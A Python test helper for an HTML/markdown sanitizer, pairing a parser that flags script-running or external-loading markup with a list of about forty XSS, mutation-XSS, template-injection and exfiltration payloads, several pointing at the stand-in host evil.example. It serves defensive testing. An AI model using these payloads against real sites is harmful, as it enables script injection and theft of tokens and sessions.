"""What strangers may say: each of it tries to run script, to break out of the page or to load something."""

from html.parser import HTMLParser

# What a rendered text of a stranger may have no tag of.
TAGS = frozenset(
    "script img svg iframe style link base meta form input div object embed math details noscript".split()  # noqa: SIM905
)


class Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            address = (value or "").strip().lower()
            loads = name in ("src", "srcset", "data", "action", "srcdoc", "style", "hx-get")
            if name.startswith("on") or (loads and ("evil" in address or "pwned" in address)):
                self.faults.append(f"{tag} {name}={value}")
            if name == "href" and address.startswith(("javascript:", "data:", "vbscript:", "//")):
                self.faults.append(f"{tag} {name}={value}")
            if tag in ("base", "link", "meta") and "evil" in address:
                self.faults.append(f"{tag} {name}={value}")
        if tag == "script" and not any(name in ("src", "type") for name, _ in attrs):
            self.faults.append("script")


def faults(html: str) -> list[str]:
    """What in a page runs, or loads something from outside."""
    reader = Reader()
    reader.feed(html)
    return reader.faults


def dangers(html: str) -> list[str]:
    """The same, and tags, that no rendered text may have."""
    reader = Reader()
    reader.feed(html)
    return [*reader.faults, *sorted(reader.tags & TAGS)]


ATTACKS = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg/onload=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a href='javascript:window.pwned=1'>x</a>",
    "[x](javascript:window.pwned=1)",
    "[x](  JaVaScRiPt:window.pwned=1)",
    "[x](java\nscript:window.pwned=1)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<javascript:window.pwned=1>",
    "![x](https://evil.example/pixel.png)",
    "![x][y]\n\n[y]: https://evil.example/pixel.png",
    "<img src=https://evil.example/pixel.png>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import url(https://evil.example/a.css); body{display:none}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=csrfmiddlewaretoken></form>",
    "<div x-data x-init=\"$el.ownerDocument.defaultView.pwned=1\"></div>",
    "<div x-data=\"{a: [].constructor.constructor('window.pwned=1')()}\"></div>",
    "<div hx-get=https://evil.example/ hx-trigger=load></div>",
    "</div></article></section></main></body></html>",
    "--></textarea></pre></code></details>",
    "{{ 7*7 }}{% load admin %}{% csrf_token %}",
    "{{constructor.constructor('window.pwned=1')()}}",
    "\" onmouseover=\"window.pwned=1\" x=\"",
    "' autofocus onfocus='window.pwned=1",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "```html\n<script>window.pwned=1</script>\n```",
    "`</code><img src=x onerror=window.pwned=1>`",
    "<details open ontoggle=window.pwned=1>",
    "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/x>",
    "\u202etxet desrever\u202c \u200b\ufeff",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=window.pwned=1>'>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "[a]: <javascript:window.pwned=1>\n\n[a]",
    "<<script>window.pwned=1//<</script>",
    "> " * 300 + "deep",
    "*" * 3000,
    "[" * 2000,
)  # fmt: skip
